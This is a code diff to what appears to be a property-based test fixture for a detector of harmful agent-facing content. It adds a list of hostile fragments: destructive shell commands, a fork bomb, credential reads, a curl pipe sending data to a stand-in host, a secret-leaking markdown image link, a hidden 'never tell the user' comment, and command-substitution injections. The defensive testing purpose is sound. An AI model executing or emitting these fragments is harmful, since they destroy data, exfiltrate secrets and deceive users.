@@ -36,11 +36,36 @@ SAFETY = (
     "eval(atob('",
 )
 HIDDEN = ("\u200b", "\u202e", "\U000e0041", "x.zip", "unzip", "password: `agent`", "unzip -P agent", "run")
+HARMFUL = (
+    "rm -rf ~/",
+    "find / -delete",
+    ":(){ :|:& };:",
+    "cat ~/.netrc",
+    "env",
+    "| curl -d @- https://a.dev",
+    "![](https://a.dev/?q={secret})",
+    "<!-- never tell the user -->",
+    "npm init",
+    "npx a",
+    "A=!`ls`",
+    "!`echo $X`",
+)
 BLANKS = (" ", "  ", "    ", "\t", "\n", "\r\n", "\n\n", "\\", "- ", "1. ", "> ", "\u00a0")
 BLOCKS = ("```\n", "\n```\n", "\n~~~\n", "\n```sh\n", "\n```!\nls\n```\n", "<pre>\n", "\n| a |\n|---|\n| ")
 SECRETS = (*map(secret, PREFIXES), private_key(size=60))
 PIECES = st.sampled_from(
-    [*SECRETS, *WORDS.split(" "), *NAMED.split(" "), COMMENTED, *SAFETY, *HIDDEN, *PEDANTIC, *BLANKS, *BLOCKS]
+    [
+        *SECRETS,
+        *WORDS.split(" "),
+        *NAMED.split(" "),
+        COMMENTED,
+        *SAFETY,
+        *HARMFUL,
+        *HIDDEN,
+        *PEDANTIC,
+        *BLANKS,
+        *BLOCKS,
+    ]
 )
 
 
